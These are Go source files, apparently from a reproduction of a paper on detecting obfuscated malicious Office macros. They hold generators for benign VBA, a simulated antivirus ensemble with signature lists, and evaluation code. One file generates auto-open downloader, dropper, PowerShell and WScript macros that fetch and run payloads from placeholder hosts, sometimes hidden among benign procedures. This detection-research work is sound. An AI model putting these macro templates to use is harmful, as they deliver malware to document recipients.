		return financialProcedure(rng)
	case StyleTerse:
		return terseProcedure(rng)
	case StyleStringUtil:
		return stringUtilProcedure(rng)
	case StyleAutomation:
		return automationProcedure(rng)
	default:
		return documentedProcedure(rng)
	}
}

// automationProcedure emits legitimate system automation: launching
// programs, exporting files, sending mail through COM objects. It shares
// the rich-functionality call profile (Shell, CreateObject, Open/Print,
// Kill, Environ) with malware, which is why V12 alone cannot separate the
// classes — exactly the paper's point that the function *parameters*, not
// the functions, distinguish benign use (§III.B.2).
func automationProcedure(rng *rand.Rand) string {
	var sb strings.Builder
	name := procName(rng)
	obj, path, cmd := varName(rng), varName(rng), varName(rng)
	fmt.Fprintf(&sb, "Sub %s()\n", name)
	if rng.Intn(2) == 0 {
		fmt.Fprintf(&sb, "    ' %s\n", pick(rng, commentPhrases))
	}
	fmt.Fprintf(&sb, "    Dim %s As Object\n    Dim %s As String\n    Dim %s As String\n", obj, path, cmd)
	n := 3 + rng.Intn(5)
	for i := 0; i < n; i++ {
		switch rng.Intn(8) {
		case 0:
			fmt.Fprintf(&sb, "    %s = \"%s\"\n", path, pick(rng, filePathsBenign))
		case 1:
			fmt.Fprintf(&sb, "    Set %s = CreateObject(\"%s\")\n", obj,
				pick(rng, []string{"Outlook.Application", "Scripting.FileSystemObject", "Excel.Application", "Word.Application", "Shell.Application"}))
		case 2:
			fmt.Fprintf(&sb, "    %s = \"notepad.exe \" & %s\n    Shell %s, vbNormalFocus\n", cmd, path, cmd)
		case 3:
			fmt.Fprintf(&sb, "    Open %s For Output As #%d\n    Print #%d, \"%s report\"\n    Close #%d\n",
				path, 1+rng.Intn(4), 1+rng.Intn(4), pick(rng, nouns), 1+rng.Intn(4))
		case 4:
			fmt.Fprintf(&sb, "    %s = Environ(\"%s\") & \"\\%s.txt\"\n", path,
				pick(rng, []string{"TEMP", "USERPROFILE", "APPDATA"}), pick(rng, nouns))
		case 5:
			fmt.Fprintf(&sb, "    If Dir(%s) <> \"\" Then Kill %s\n", path, path)
		case 6:
			fmt.Fprintf(&sb, "    FileCopy %s, %s & \".bak\"\n", path, path)
		default:
			fmt.Fprintf(&sb, "    ActiveWorkbook.SaveAs \"%s\"\n", pick(rng, filePathsBenign))
		}
	}
	sb.WriteString("End Sub\n")
	return sb.String()
}

// terseNames are the abbreviated identifiers of quick-and-dirty code.
var terseNames = []string{
	"i", "j", "k", "n", "s", "t", "x", "y", "r", "c",
	"tmp", "buf", "cnt", "idx", "val", "res", "str1", "str2",
	"rng", "ws", "wb", "obj", "arr", "pos", "num", "s1", "s2",
}

func terseProcedure(rng *rand.Rand) string {
	var sb strings.Builder
	name := pick(rng, []string{"doIt", "run1", "calc", "fix", "go2", "proc1", "upd", "chk"})
	fmt.Fprintf(&sb, "Sub %s%d()\n", name, rng.Intn(20))
	vars := map[string]bool{}
	for len(vars) < 2+rng.Intn(3) {
		vars[pick(rng, terseNames)] = true
	}
	var names []string
	for v := range vars {
		names = append(names, v)
	}
	sort.Strings(names)
	for _, v := range names {
		fmt.Fprintf(&sb, "    Dim %s\n", v)
	}
	n := 3 + rng.Intn(8)
	for i := 0; i < n; i++ {
		a, b := names[rng.Intn(len(names))], names[rng.Intn(len(names))]
		switch rng.Intn(5) {
		case 0:
			fmt.Fprintf(&sb, "    %s = %s + %d\n", a, b, rng.Intn(50))
		case 1:
			fmt.Fprintf(&sb, "    For %s = 0 To %d\n        %s = %s + Cells(%s + 1, %d)\n    Next\n",
				a, rng.Intn(99), b, b, a, 1+rng.Intn(5))
		case 2:
			fmt.Fprintf(&sb, "    If %s > %d Then %s = 0\n", a, rng.Intn(500), b)
		case 3:
			fmt.Fprintf(&sb, "    %s = Cells(%d, %d)\n", a, 1+rng.Intn(30), 1+rng.Intn(10))
		default:
			fmt.Fprintf(&sb, "    Cells(%d, %d) = %s\n", 1+rng.Intn(30), 1+rng.Intn(10), a)
		}
	}
	sb.WriteString("End Sub\n")
	return sb.String()
}

func stringUtilProcedure(rng *rand.Rand) string {
	var sb strings.Builder
	fnName := fmt.Sprintf("%s%d",
		pick(rng, []string{"CleanText", "NormalizeName", "ParseField", "TrimAll", "FixEncoding", "SplitCSV", "PadLeft", "ToTitle"}),
		rng.Intn(10))
	arg := pick(rng, []string{"text", "value", "input", "raw", "source"})
	out := varName(rng)
	fmt.Fprintf(&sb, "Function %s(%s As String) As String\n", fnName, arg)
	fmt.Fprintf(&sb, "    Dim %s As String\n    %s = %s\n", out, out, arg)
	n := 3 + rng.Intn(6)
	for i := 0; i < n; i++ {
		switch rng.Intn(9) {
		case 0:
			fmt.Fprintf(&sb, "    %s = Replace(%s, \"%s\", \"%s\")\n", out, out,
				pick(rng, []string{"  ", "\t", "--", "..", ", "}), pick(rng, []string{" ", "-", "."}))
		case 7:
			// Legitimate Chr-built control characters (tab/CRLF/quote
			// separators): benign code sharing the character-encoding
			// signature of O3.
			fmt.Fprintf(&sb, "    %s = %s & Chr(%d) & Chr(%d) & Chr(%d)\n", out, out,
				[]int{9, 10, 13, 34}[rng.Intn(4)], []int{9, 10, 13, 34}[rng.Intn(4)], 32+rng.Intn(90))
		case 8:
			// A lookup table of character codes, as translation and
			// sanitizer helpers legitimately carry.
			codes := make([]string, 6+rng.Intn(10))
			for j := range codes {
				codes[j] = fmt.Sprintf("%d", 128+rng.Intn(128))
			}
			fmt.Fprintf(&sb, "    %s = %s & mapCodes(Array(%s))\n", out, out, strings.Join(codes, ", "))
		case 1:
			fmt.Fprintf(&sb, "    %s = Trim(%s)\n", out, out)
		case 2:
			fmt.Fprintf(&sb, "    If InStr(%s, \"%s\") > 0 Then %s = Mid(%s, %d)\n",
				out, pick(rng, []string{":", ";", "#", "@"}), out, out, 1+rng.Intn(5))
		case 3:
			fmt.Fprintf(&sb, "    %s = UCase(Left(%s, 1)) & LCase(Mid(%s, 2))\n", out, out, out)
		case 4:
			fmt.Fprintf(&sb, "    If Asc(%s) = %d Then %s = Chr(%d) & %s\n",
				out, 32+rng.Intn(90), out, 32+rng.Intn(90), out)
		case 5:
			fmt.Fprintf(&sb, "    %s = Replace(%s, Chr(%d), \"\")\n", out, out, 9+rng.Intn(5))
		default:
			fmt.Fprintf(&sb, "    Do While Len(%s) < %d\n        %s = \"0\" & %s\n    Loop\n",
				out, 4+rng.Intn(12), out, out)
		}
	}
	fmt.Fprintf(&sb, "    %s = %s\nEnd Function\n", fnName, out)
	return sb.String()
}

func documentedProcedure(rng *rand.Rand) string {
	var sb strings.Builder
	name := procName(rng)
	vars := uniqueNames(rng, 3+rng.Intn(3))
	fmt.Fprintf(&sb, "Sub %s()\n", name)
	fmt.Fprintf(&sb, "    ' %s\n", pick(rng, commentPhrases))
	for i, v := range vars {
		types := []string{"Long", "String", "Double", "Integer", "Variant"}
		fmt.Fprintf(&sb, "    Dim %s As %s\n", v, types[i%len(types)])
	}
	n := 3 + rng.Intn(6)
	for i := 0; i < n; i++ {
		sb.WriteString(documentedStatement(rng, vars))
	}
	sb.WriteString("End Sub\n")
	return sb.String()
}

func documentedStatement(rng *rand.Rand, vars []string) string {
	v := pick(rng, vars)
	w := pick(rng, vars)
	switch rng.Intn(10) {
	case 0:
		return fmt.Sprintf("    ' %s\n    %s = %s + %d\n", pick(rng, commentPhrases), v, w, rng.Intn(100))
	case 1:
		return fmt.Sprintf("    For %s = 1 To %d\n        Cells(%s, %d).Value = %s\n    Next %s\n",
			v, 10+rng.Intn(90), v, 1+rng.Intn(8), w, v)
	case 2:
		return fmt.Sprintf("    If %s > %d Then\n        MsgBox \"%s exceeded the limit\"\n    End If\n",
			v, rng.Intn(1000), v)
	case 3:
		return fmt.Sprintf("    %s = Worksheets(\"%s\").Cells(%d, %d).Value\n",
			v, pick(rng, sheetNames), 1+rng.Intn(20), 1+rng.Intn(10))
	case 4:
		return fmt.Sprintf("    With Worksheets(\"%s\")\n        .Range(\"A%d\").Value = %s\n        .Columns(%d).AutoFit\n    End With\n",
			pick(rng, sheetNames), 1+rng.Intn(30), w, 1+rng.Intn(8))
	case 5:
		return fmt.Sprintf("    %s = \"%s %s\"\n", v, pick(rng, verbs), pick(rng, nouns))
	case 6:
		return fmt.Sprintf("    Do While %s < %d\n        %s = %s + 1\n    Loop\n",
			v, 10+rng.Intn(50), v, v)
	case 7:
		// Long spreadsheet formula: a legitimately 150+-character line.
		return fmt.Sprintf("    Worksheets(\"%s\").Range(\"%s%d\").Formula = \"=IF(ISERROR(VLOOKUP(A%d,'%s'!$A$1:$F$%d,%d,FALSE)),\"\"missing %s\"\",VLOOKUP(A%d,'%s'!$A$1:$F$%d,%d,FALSE)*SUMIF('%s'!B:B,A%d,'%s'!C:C))\"\n",
			pick(rng, sheetNames), string(rune('A'+rng.Intn(6))), 1+rng.Intn(40),
			1+rng.Intn(40), pick(rng, sheetNames), 100+rng.Intn(900), 2+rng.Intn(5),
			pick(rng, nouns), 1+rng.Intn(40), pick(rng, sheetNames), 100+rng.Intn(900),
			2+rng.Intn(5), pick(rng, sheetNames), 1+rng.Intn(40), pick(rng, sheetNames))
	case 8:
		// Informative message with a long explanatory argument.
		return fmt.Sprintf("    MsgBox \"The %s for %s %s could not be completed because the %s sheet is protected; please contact the administrator\", vbExclamation\n",
			pick(rng, nouns), pick(rng, adjectives), pick(rng, nouns), pick(rng, sheetNames))
	default:
		return fmt.Sprintf("    Call %s\n", procName(rng))
	}
}

func recordedProcedure(rng *rand.Rand) string {
	var sb strings.Builder
	fmt.Fprintf(&sb, "Sub Macro%d()\n", 1+rng.Intn(40))
	n := 5 + rng.Intn(12)
	for i := 0; i < n; i++ {
		switch rng.Intn(6) {
		case 0:
			fmt.Fprintf(&sb, "    Range(\"%s%d:%s%d\").Select\n",
				string(rune('A'+rng.Intn(8))), 1+rng.Intn(40),
				string(rune('A'+rng.Intn(8))), 41+rng.Intn(40))
		case 1:
			sb.WriteString("    Selection.Copy\n")
		case 2:
			fmt.Fprintf(&sb, "    Sheets(\"%s\").Select\n", pick(rng, sheetNames))
		case 3:
			if rng.Intn(3) == 0 {
				// Recorded conditional-format formulas routinely exceed
				// 150 characters.
				fmt.Fprintf(&sb, "    ActiveCell.FormulaR1C1 = \"=IF(RC[%d]>0,SUMPRODUCT((R2C1:R%dC1=RC1)*(R2C%d:R%dC%d)),IF(RC[%d]<0,AVERAGEIF(R2C1:R%dC1,RC1,R2C%d:R%dC%d),0))+ROUND(RC[%d]*%d.%d,2)\"\n",
					1+rng.Intn(5), 100+rng.Intn(900), 2+rng.Intn(6), 100+rng.Intn(900), 2+rng.Intn(6),
					1+rng.Intn(5), 100+rng.Intn(900), 2+rng.Intn(6), 100+rng.Intn(900), 2+rng.Intn(6),
					1+rng.Intn(5), rng.Intn(9), rng.Intn(9))
			} else {
				fmt.Fprintf(&sb, "    ActiveCell.FormulaR1C1 = \"=SUM(R[%d]C:R[%d]C)\"\n", -(1 + rng.Intn(20)), -1)
			}
		case 4:
			sb.WriteString("    Selection.PasteSpecial Paste:=xlPasteValues\n")
		default:
			fmt.Fprintf(&sb, "    Columns(\"%s:%s\").ColumnWidth = %d.%d\n",
				string(rune('A'+rng.Intn(8))), string(rune('A'+rng.Intn(8))),
				5+rng.Intn(30), rng.Intn(100))
		}
	}
	sb.WriteString("End Sub\n")
	return sb.String()
}

func dataHeavyProcedure(rng *rand.Rand) string {
	var sb strings.Builder
	name := procName(rng)
	acc := varName(rng)
	fmt.Fprintf(&sb, "Sub %s()\n    Dim %s As String\n", name, acc)
	n := 4 + rng.Intn(10)
	for i := 0; i < n; i++ {
		switch rng.Intn(4) {
		case 0:
			// Long concatenated report line.
			fmt.Fprintf(&sb, "    %s = %s & \"%s: \" & Format(Now, \"yyyy-mm-dd\") & \" | %s %s | status=\" & \"%s\" & vbCrLf\n",
				acc, acc, pick(rng, nouns), pick(rng, verbs), pick(rng, nouns), pick(rng, adjectives))
		case 1:
			// Inline data table row (produces a long line).
			cells := make([]string, 6+rng.Intn(8))
			for j := range cells {
				cells[j] = fmt.Sprintf("\"%s %d\"", pick(rng, nouns), rng.Intn(1000))
			}
			fmt.Fprintf(&sb, "    Worksheets(\"%s\").Range(\"A%d\").Resize(1, %d).Value = Array(%s)\n",
				pick(rng, sheetNames), 1+rng.Intn(50), len(cells), strings.Join(cells, ", "))
		case 2:
			// Embedded opaque token (license key / API token / session id):
			// legitimate high-entropy string content.
			fmt.Fprintf(&sb, "    %s = %s & \"%s\"\n", acc, acc, opaqueToken(rng, 32+rng.Intn(80)))
		default:
			fmt.Fprintf(&sb, "    %s = %s & \"%s\"\n", acc, acc, pick(rng, commentPhrases))
		}
	}
	fmt.Fprintf(&sb, "    Worksheets(\"%s\").Range(\"A1\").Value = %s\nEnd Sub\n", pick(rng, sheetNames), acc)
	return sb.String()
}

func denseProcedure(rng *rand.Rand) string {
	var sb strings.Builder
	name := procName(rng)
	vars := uniqueNames(rng, 3)
	fmt.Fprintf(&sb, "Sub %s()\n", name)
	fmt.Fprintf(&sb, "    Dim %s As Long: Dim %s As Long: Dim %s As String\n", vars[0], vars[1], vars[2])
	n := 2 + rng.Intn(5)
	for i := 0; i < n; i++ {
		fmt.Fprintf(&sb, "    %s = %d: %s = %s * %d: If %s > %d Then %s = \"%s\" Else %s = \"%s\"\n",
			vars[0], rng.Intn(100), vars[1], vars[0], 2+rng.Intn(9),
			vars[1], rng.Intn(500), vars[2], pick(rng, nouns), vars[2], pick(rng, adjectives))
	}
	fmt.Fprintf(&sb, "    Debug.Print %s\nEnd Sub\n", vars[2])
	return sb.String()
}

func financialProcedure(rng *rand.Rand) string {
	var sb strings.Builder
	name := procName(rng)
	vars := uniqueNames(rng, 4)
	fmt.Fprintf(&sb, "Function %s(principal As Double, rate As Double) As Double\n", name)
	fmt.Fprintf(&sb, "    ' %s\n", pick(rng, commentPhrases))
	for _, v := range vars {
		fmt.Fprintf(&sb, "    Dim %s As Double\n", v)
	}
	stmts := []string{
		fmt.Sprintf("    %s = Pmt(rate / 12, %d, -principal)\n", vars[0], 12*(1+rng.Intn(30))),
		fmt.Sprintf("    %s = FV(rate / 12, %d, -%s, 0)\n", vars[1], 12*(1+rng.Intn(10)), vars[0]),
		fmt.Sprintf("    %s = Round(%s * %d.%02d, 2)\n", vars[2], vars[1], 1+rng.Intn(3), rng.Intn(100)),
		fmt.Sprintf("    %s = Abs(%s - %s)\n", vars[3], vars[2], vars[0]),
		fmt.Sprintf("    If %s > principal Then %s = principal\n", vars[3], vars[3]),
	}
	n := 2 + rng.Intn(len(stmts)-1)
	for i := 0; i < n; i++ {
		sb.WriteString(stmts[i])
	}
	fmt.Fprintf(&sb, "    %s = %s\nEnd Function\n", name, vars[rng.Intn(len(vars))])
	return sb.String()
}
