package corpus

import (
	"math/rand"
	"strings"
)

// AV-vote labeling simulation (§IV.A): the paper labels a file malicious
// when more than 25 of ~60 VirusTotal vendors flag it, benign when at most
// 2 do, and sends everything in between to manual review. This module
// reproduces that decision procedure with a simulated scanner ensemble:
// each scanner owns a subset of string signatures; some scanners can
// "unpack" obfuscation (they match against the pre-obfuscation source).

// strongSignatures flag a macro on a single hit; weakSignatures are
// common in benign automation code, so a scanner requires several distinct
// weak hits before flagging.
var (
	strongSignatures = []string{
		"URLDownloadToFile", "powershell", "ADODB.Stream",
		"MSXML2.XMLHTTP", "responseBody", "SaveToFile", "-Exec Bypass",
		"urlmon", "Put #1, , CByte",
	}
	weakSignatures = []string{
		".exe", "http://", "Shell ", "CreateObject", "vbHide",
		"WScript.Shell",
	}
	// weakHitThreshold is how many distinct weak signatures must match
	// before a scanner flags without a strong hit.
	weakHitThreshold = 3
)

// Scanner is one simulated AV engine.
type Scanner struct {
	strong  []string
	weak    []string
	unpacks bool
}

// Ensemble is a fixed set of simulated scanners.
type Ensemble struct {
	Scanners []Scanner
}

// VoteThresholds from §IV.A: > MaliciousVotes ⇒ malicious, ≤ BenignVotes ⇒
// benign, otherwise manual review.
const (
	MaliciousVotes = 25
	BenignVotes    = 2
)

// NewEnsemble builds n scanners deterministically from seed. Each scanner
// holds a random half of each signature set; 30% can unpack obfuscation.
func NewEnsemble(n int, seed int64) *Ensemble {
	rng := rand.New(rand.NewSource(seed))
	e := &Ensemble{Scanners: make([]Scanner, n)}
	for i := range e.Scanners {
		var sc Scanner
		for _, s := range strongSignatures {
			if rng.Intn(2) == 0 {
				sc.strong = append(sc.strong, s)
			}
		}
		for _, s := range weakSignatures {
			if rng.Intn(2) == 0 {
				sc.weak = append(sc.weak, s)
			}
		}
		sc.unpacks = rng.Float64() < 0.3
		e.Scanners[i] = sc
	}
	return e
}

// Votes counts how many scanners flag the macro. Unpacking scanners also
// match against the pre-obfuscation source when available. A scanner flags
// on any strong signature or on weakHitThreshold distinct weak ones.
func (e *Ensemble) Votes(m Macro) int {
	votes := 0
	for _, s := range e.Scanners {
		text := m.Source
		if s.unpacks && m.Plain != "" {
			text = m.Source + "\n" + m.Plain
		}
		flagged := false
		for _, sig := range s.strong {
			if strings.Contains(text, sig) {
				flagged = true
				break
			}
		}
		if !flagged {
			weak := 0
			for _, sig := range s.weak {
				if strings.Contains(text, sig) {
					weak++
				}
			}
			flagged = weak >= weakHitThreshold
		}
		if flagged {
			votes++
		}
	}
	return votes
}

// Verdict is the outcome of the vote-threshold rule.
type Verdict int

// Verdicts.
const (
	VerdictBenign Verdict = iota + 1
	VerdictMalicious
	VerdictManualReview
)

// String returns the verdict name.
func (v Verdict) String() string {
	switch v {
	case VerdictBenign:
		return "benign"
	case VerdictMalicious:
		return "malicious"
	default:
		return "manual-review"
	}
}

// Label applies the paper's thresholds to a vote count.
func Label(votes int) Verdict {
	switch {
	case votes > MaliciousVotes:
		return VerdictMalicious
	case votes <= BenignVotes:
		return VerdictBenign
	default:
		return VerdictManualReview
	}
}

// LabelingReport summarizes the labeling simulation over a dataset.
type LabelingReport struct {
	Agree        int // verdict matches ground truth
	ManualReview int // sent to the human analysts
	Mislabeled   int // verdict contradicts ground truth
	Total        int
}

// SimulateLabeling runs the ensemble over every macro, resolving
// manual-review cases with the ground truth (the paper's three security
// researchers).
func SimulateLabeling(d *Dataset, e *Ensemble) LabelingReport {
	var r LabelingReport
	for _, m := range d.Macros {
		r.Total++
		switch Label(e.Votes(m)) {
		case VerdictManualReview:
			r.ManualReview++
		case VerdictMalicious:
			if m.Malicious {
				r.Agree++
			} else {
				r.Mislabeled++
			}
		case VerdictBenign:
			if !m.Malicious {
				r.Agree++
			} else {
				r.Mislabeled++
			}
		}
	}
	return r
}
