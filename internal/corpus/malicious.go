package corpus

import (
	"fmt"
	"math/rand"
	"strings"
)

// Malicious macro families observed in the paper's dataset: the dominant
// "Downloader" pattern (fetch a payload from a remote address and execute
// it — per §IV.A most malicious files are small because the malware is not
// embedded) plus dropper, PowerShell and WScript variants.

var (
	maliciousHosts = []string{
		"update-service.example", "cdn-static.example", "files-mirror.example",
		"secure-dl.example", "report-sync.example", "img-hosting.example",
	}
	payloadNames = []string{
		"invoice.exe", "update.exe", "flash_player.exe", "report.scr",
		"document.exe", "setup.exe",
	}
	dropPaths = []string{
		`C:\Users\Public\`, `C:\ProgramData\`, `C:\Windows\Temp\`,
		`C:\Temp\`,
	}
)

// MaliciousKind distinguishes malicious macro families.
type MaliciousKind int

// Malicious macro families.
const (
	KindDownloader MaliciousKind = iota + 1
	KindDropper
	KindPowerShell
	KindWScript
)

// MaliciousMacro generates one un-obfuscated malicious macro of the given
// family. The corpus generator obfuscates ~98.4% of these afterwards
// (Table III).
func MaliciousMacro(rng *rand.Rand, kind MaliciousKind) string {
	url := fmt.Sprintf("http://%s/%s%d/%s",
		pick(rng, maliciousHosts), pick(rng, adjectives), rng.Intn(1000), pick(rng, payloadNames))
	dest := pick(rng, dropPaths) + pick(rng, payloadNames)
	switch kind {
	case KindDropper:
		return dropperMacro(rng, dest)
	case KindPowerShell:
		return powerShellMacro(rng, url)
	case KindWScript:
		return wscriptMacro(rng, url, dest)
	default:
		return downloaderMacro(rng, url, dest)
	}
}

// RandomMaliciousMacro picks a family with downloader-heavy weights, as in
// the paper's observations. Most samples camouflage the payload inside
// benign-looking procedures — the common real-world pattern of trojanized
// document macros — so the macro's global statistics are a blend of benign
// and malicious code rather than a bare template.
func RandomMaliciousMacro(rng *rand.Rand) string {
	var payload string
	r := rng.Intn(10)
	switch {
	case r < 5:
		payload = MaliciousMacro(rng, KindDownloader)
	case r < 7:
		payload = MaliciousMacro(rng, KindPowerShell)
	case r < 9:
		payload = MaliciousMacro(rng, KindWScript)
	default:
		payload = MaliciousMacro(rng, KindDropper)
	}
	if rng.Float64() >= 0.7 {
		return payload
	}
	// Camouflage: surround the payload with innocuous procedures in a
	// random benign style. Trojanized documents usually carry more cover
	// code than payload.
	parts := []string{payload}
	style := randomStyle(rng)
	n := 2 + rng.Intn(5)
	for i := 0; i < n; i++ {
		cover := benignProcedure(rng, style)
		if rng.Intn(2) == 0 {
			parts = append([]string{cover}, parts...)
		} else {
			parts = append(parts, cover)
		}
	}
	return strings.Join(parts, "\n")
}

func downloaderMacro(rng *rand.Rand, url, dest string) string {
	fn, u, d, r := procName(rng), varName(rng), varName(rng), varName(rng)
	entry := pick(rng, []string{"AutoOpen", "Document_Open", "Workbook_Open"})
	return fmt.Sprintf(`Private Declare Function URLDownloadToFile Lib "urlmon" Alias "URLDownloadToFileA" (ByVal pCaller As Long, ByVal szURL As String, ByVal szFileName As String, ByVal dwReserved As Long, ByVal lpfnCB As Long) As Long

Sub %s()
    Call %s
End Sub

Sub %s()
    Dim %s As String
    Dim %s As String
    Dim %s As Long
    %s = "%s"
    %s = "%s"
    %s = URLDownloadToFile(0, %s, %s, 0, 0)
    If %s = 0 Then
        Shell %s, vbHide
    End If
End Sub
`, entry, fn, fn, u, d, r, u, url, d, dest, r, u, d, r, d)
}

func dropperMacro(rng *rand.Rand, dest string) string {
	fn, buf, i := procName(rng), varName(rng), varName(rng)
	entry := pick(rng, []string{"AutoOpen", "Document_Open", "Workbook_Open"})
	// A short fake payload as a byte table; real droppers carry kilobytes.
	// Lines are wrapped with continuations every dozen values, as the VBA
	// editor forces for pasted tables.
	var payload strings.Builder
	nVals := 24 + rng.Intn(40)
	for j := 0; j < nVals; j++ {
		if j > 0 {
			if j%12 == 0 {
				payload.WriteString(", _\n        ")
			} else {
				payload.WriteString(", ")
			}
		}
		fmt.Fprintf(&payload, "%d", rng.Intn(256))
	}
	return fmt.Sprintf(`Sub %s()
    %s
End Sub

Sub %s()
    Dim %s() As Variant
    Dim %s As Long
    %s = Array(%s)
    Open "%s" For Binary As #1
    For %s = LBound(%s) To UBound(%s)
        Put #1, , CByte(%s(%s))
    Next %s
    Close #1
    Shell "%s", vbHide
End Sub
`, entry, fn, fn, buf, i, buf, payload.String(), dest, i, buf, buf, buf, i, i, dest)
}

func powerShellMacro(rng *rand.Rand, url string) string {
	fn, cmd := procName(rng), varName(rng)
	entry := pick(rng, []string{"AutoOpen", "Document_Open", "Workbook_Open"})
	return fmt.Sprintf(`Sub %s()
    %s
End Sub

Sub %s()
    Dim %s As String
    %s = "powershell -NoP -NonI -W Hidden -Exec Bypass "
    %s = %s & "-C ""IEX (New-Object Net.WebClient)"
    %s = %s & ".DownloadString('%s')"""
    Shell %s, vbHide
End Sub
`, entry, fn, fn, cmd, cmd, cmd, cmd, cmd, cmd, url, cmd)
}

func wscriptMacro(rng *rand.Rand, url, dest string) string {
	fn, sh, http := procName(rng), varName(rng), varName(rng)
	entry := pick(rng, []string{"AutoOpen", "Document_Open", "Workbook_Open"})
	return fmt.Sprintf(`Sub %s()
    %s
End Sub

Sub %s()
    Dim %s As Object
    Dim %s As Object
    Set %s = CreateObject("WScript.Shell")
    Set %s = CreateObject("MSXML2.XMLHTTP")
    %s.Open "GET", "%s", False
    %s.Send
    If %s.Status = 200 Then
        Dim stream As Object
        Set stream = CreateObject("ADODB.Stream")
        stream.Type = 1
        stream.Open
        stream.Write %s.responseBody
        stream.SaveToFile "%s", 2
        %s.Run "%s", 0, False
    End If
End Sub
`, entry, fn, fn, sh, http, sh, http, http, url, http, http, http, dest, sh, dest)
}
