// Package eval provides the evaluation machinery of the paper's §V:
// accuracy / precision / recall, the Fβ score with β = 2 (recall-weighted,
// chosen "to emphasize the security aspect"), ROC curves with AUC, and
// stratified 10-fold cross-validation.
package eval

import (
	"fmt"
	"math/rand"
	"runtime"
	"sort"
	"sync"

	"repro/internal/ml"
)

// Confusion is a binary confusion matrix (positive = obfuscated).
type Confusion struct {
	TP, FP, TN, FN int
}

// Add accumulates one prediction.
func (c *Confusion) Add(predicted, actual int) {
	switch {
	case predicted == ml.Positive && actual == ml.Positive:
		c.TP++
	case predicted == ml.Positive && actual == ml.Negative:
		c.FP++
	case predicted == ml.Negative && actual == ml.Negative:
		c.TN++
	default:
		c.FN++
	}
}

// Merge adds another confusion matrix into c.
func (c *Confusion) Merge(o Confusion) {
	c.TP += o.TP
	c.FP += o.FP
	c.TN += o.TN
	c.FN += o.FN
}

// Total is the number of accumulated predictions.
func (c Confusion) Total() int { return c.TP + c.FP + c.TN + c.FN }

// Accuracy is (TP+TN)/total.
func (c Confusion) Accuracy() float64 {
	return safeDiv(float64(c.TP+c.TN), float64(c.Total()))
}

// Precision is TP/(TP+FP).
func (c Confusion) Precision() float64 {
	return safeDiv(float64(c.TP), float64(c.TP+c.FP))
}

// Recall is TP/(TP+FN).
func (c Confusion) Recall() float64 {
	return safeDiv(float64(c.TP), float64(c.TP+c.FN))
}

// FBeta is the weighted harmonic mean of precision and recall; β > 1
// weighs recall higher. The paper reports F2.
func (c Confusion) FBeta(beta float64) float64 {
	p, r := c.Precision(), c.Recall()
	b2 := beta * beta
	return safeDiv((1+b2)*p*r, b2*p+r)
}

// F1 is FBeta(1), the balanced harmonic mean the channel-ablation gate
// compares on.
func (c Confusion) F1() float64 { return c.FBeta(1) }

// F2 is FBeta(2).
func (c Confusion) F2() float64 { return c.FBeta(2) }

func safeDiv(num, den float64) float64 {
	if den == 0 {
		return 0
	}
	return num / den
}

// ROCPoint is one (FPR, TPR) operating point.
type ROCPoint struct {
	FPR, TPR  float64
	Threshold float64
}

// ROC computes the ROC curve from decision scores and true labels. Points
// run from (0,0) to (1,1) in order of decreasing threshold.
func ROC(scores []float64, labels []int) []ROCPoint {
	type pair struct {
		s float64
		y int
	}
	pairs := make([]pair, len(scores))
	pos, neg := 0, 0
	for i := range scores {
		pairs[i] = pair{scores[i], labels[i]}
		if labels[i] == ml.Positive {
			pos++
		} else {
			neg++
		}
	}
	sort.Slice(pairs, func(i, j int) bool { return pairs[i].s > pairs[j].s })
	points := []ROCPoint{{FPR: 0, TPR: 0, Threshold: inf()}}
	tp, fp := 0, 0
	for i := 0; i < len(pairs); {
		// Consume ties together so the curve is threshold-consistent.
		thr := pairs[i].s
		for i < len(pairs) && pairs[i].s == thr {
			if pairs[i].y == ml.Positive {
				tp++
			} else {
				fp++
			}
			i++
		}
		points = append(points, ROCPoint{
			FPR:       safeDiv(float64(fp), float64(neg)),
			TPR:       safeDiv(float64(tp), float64(pos)),
			Threshold: thr,
		})
	}
	return points
}

// AUC integrates a ROC curve with the trapezoid rule.
func AUC(points []ROCPoint) float64 {
	area := 0.0
	for i := 1; i < len(points); i++ {
		dx := points[i].FPR - points[i-1].FPR
		area += dx * (points[i].TPR + points[i-1].TPR) / 2
	}
	return area
}

func inf() float64 { return 1e308 }

// StratifiedKFold partitions indices 0..len(y)-1 into k folds preserving
// the class ratio in every fold. The returned slice has k test-index sets.
func StratifiedKFold(y []int, k int, seed int64) [][]int {
	rng := rand.New(rand.NewSource(seed))
	var pos, neg []int
	for i, label := range y {
		if label == ml.Positive {
			pos = append(pos, i)
		} else {
			neg = append(neg, i)
		}
	}
	rng.Shuffle(len(pos), func(i, j int) { pos[i], pos[j] = pos[j], pos[i] })
	rng.Shuffle(len(neg), func(i, j int) { neg[i], neg[j] = neg[j], neg[i] })
	folds := make([][]int, k)
	for i, idx := range pos {
		folds[i%k] = append(folds[i%k], idx)
	}
	for i, idx := range neg {
		folds[i%k] = append(folds[i%k], idx)
	}
	for _, f := range folds {
		sort.Ints(f)
	}
	return folds
}

// CVResult aggregates a cross-validation run.
type CVResult struct {
	// Confusion pools predictions over all folds.
	Confusion Confusion
	// Scores and Labels are the out-of-fold decision scores and true
	// labels for every sample, for ROC/AUC computation.
	Scores []float64
	Labels []int
	// FoldAccuracy records per-fold accuracy for stability inspection.
	FoldAccuracy []float64
}

// AUC computes the area under the pooled out-of-fold ROC curve.
func (r *CVResult) AUC() float64 { return AUC(ROC(r.Scores, r.Labels)) }

// CrossValidate runs stratified k-fold cross-validation, training a fresh
// classifier from factory for every fold. Folds run in parallel; results
// are deterministic because each fold's classifier seed derives only from
// the fold number (the factory receives fold index).
func CrossValidate(factory func(fold int) ml.Classifier, X [][]float64, y []int, k int, seed int64) (*CVResult, error) {
	if len(X) != len(y) || len(X) == 0 {
		return nil, fmt.Errorf("eval: %d rows vs %d labels", len(X), len(y))
	}
	if k < 2 || k > len(X) {
		return nil, fmt.Errorf("eval: invalid fold count %d for %d rows", k, len(X))
	}
	folds := StratifiedKFold(y, k, seed)
	res := &CVResult{
		Scores:       make([]float64, len(X)),
		Labels:       append([]int(nil), y...),
		FoldAccuracy: make([]float64, k),
	}
	confusions := make([]Confusion, k)
	errs := make([]error, k)
	// Bound fold concurrency: folds can be memory-hungry (the SVM
	// precomputes an O(n²) kernel matrix), so at most GOMAXPROCS+1 run at
	// once.
	sem := make(chan struct{}, runtime.GOMAXPROCS(0)+1)
	var wg sync.WaitGroup
	for f := 0; f < k; f++ {
		wg.Add(1)
		go func(f int) {
			defer wg.Done()
			sem <- struct{}{}
			defer func() { <-sem }()
			test := folds[f]
			inTest := make(map[int]bool, len(test))
